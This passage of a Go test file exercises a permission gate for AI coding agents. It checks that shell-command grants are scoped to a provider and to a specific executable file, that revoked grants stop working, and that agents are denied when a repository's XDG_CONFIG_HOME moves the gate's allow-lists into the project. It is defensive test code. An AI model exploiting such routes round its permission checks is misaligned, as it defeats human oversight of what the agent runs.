	if _, err := grants.Give(prefs.GrantRequest{Kind: prefs.GrantProgram, Argv: []string{"ls"}, Executable: ls, Project: project,
		Provider: Codex, By: "card", For: time.Hour}); err != nil {
		t.Fatal(err)
	}
	if decision, _ := decide("ls -R"); decision == "allow" {
		t.Error("claude-code allowed by a grant given on codex's card")
	}
	// A program that resolves to another file than the granted one.
	if _, err := grants.Give(prefs.GrantRequest{Kind: prefs.GrantExact, Argv: []string{"ls", "-1"}, Executable: "/nonexistent/bin/ls", Project: project,
		AllProviders: true, By: "terminal", For: time.Hour}); err != nil {
		t.Fatal(err)
	}
	if decision, _ := decide("ls -1"); decision == "allow" {
		t.Error("allowed although ls resolves to another file than the granted one")
	}
	// The same path, but not the file the grant was given for.
	other := lsID
	other.Ino++
	if _, err := grants.Give(prefs.GrantRequest{Kind: prefs.GrantExact, Argv: []string{"ls", "-d"}, Executable: ls, ProgramID: other, Project: project,
		AllProviders: true, By: "terminal", For: time.Hour}); err != nil {
		t.Fatal(err)
	}
	if decision, _ := decide("ls -d"); decision == "allow" {
		t.Error("allowed although the file at the granted path is another one")
	}
	if err := grants.Revoke(g.ID); err != nil {
		t.Fatal(err)
	}
	if decision, _ := decide("ls -l"); decision == "allow" {
		t.Error("a revoked grant still allowed")
	}
}

// TestHookRefusedPlacesDeny: when agentgate's own places were refused
// (a repository's variable pointed one into the project), every agent gets
// a denial — not its own prompt — naming the variable and what to do, and
// nothing is looked up, asked or audited: the allow-lists, the grants, the
// audit log and the socket are all in the refused places. Tools other than
// the shell are not checked.
func TestHookRefusedPlacesDeny(t *testing.T) {
	refusal := &prefs.DirError{Place: prefs.OwnPlace{What: "configuration directory", Path: "/home/ada/src/app/.cfg/agentgate", Variable: "XDG_CONFIG_HOME", Stake: "allow-lists"},
		Within: "/home/ada/src/app", Why: "the project agentgate serves here"}
	for _, agent := range []string{ClaudeCode, Gemini, Codex} {
		t.Run(agent, func(t *testing.T) {
			h := newHookHarness(t)
			var checked [][]string
			h.deps.checkDirs = func(projects ...string) error {
				checked = append(checked, projects)
				return refusal
			}
			decided := false
			decide := h.deps.decide
			h.deps.decide = func(q prefs.Query) prefs.Decision { decided = true; return decide(q) }
			out := h.run(t, agent, withCommand(t, readFixture(t, hookFixtures[agent]), "git status"))
			decision, reason := decisionOf(t, agent, out)
			if decision != "deny" || !strings.Contains(reason, "Unset XDG_CONFIG_HOME") || !strings.Contains(reason, "Do not retry") {
				t.Errorf("%s: %s %q, want a denial naming the variable and what to do", agent, decision, reason)
			}
			if len(checked) != 1 || decided || len(h.asker.asked) != 0 || h.appends != 0 {
				t.Errorf("checked %v, decided %v, asked %d, audited %d: want one check and nothing else", checked, decided, len(h.asker.asked), h.appends)
			}
		})
	}
	h := newHookHarness(t)
	h.deps.checkDirs = func(...string) error { return refusal }
	payload, err := sjson.SetBytes(readFixture(t, hookFixtures[ClaudeCode]), "tool_name", "Read")
	if err != nil {
		t.Fatal(err)
	}
	if out := h.run(t, ClaudeCode, payload); out != "" {
		t.Errorf("a tool other than the shell: %q, want no decision", out)
	}
}
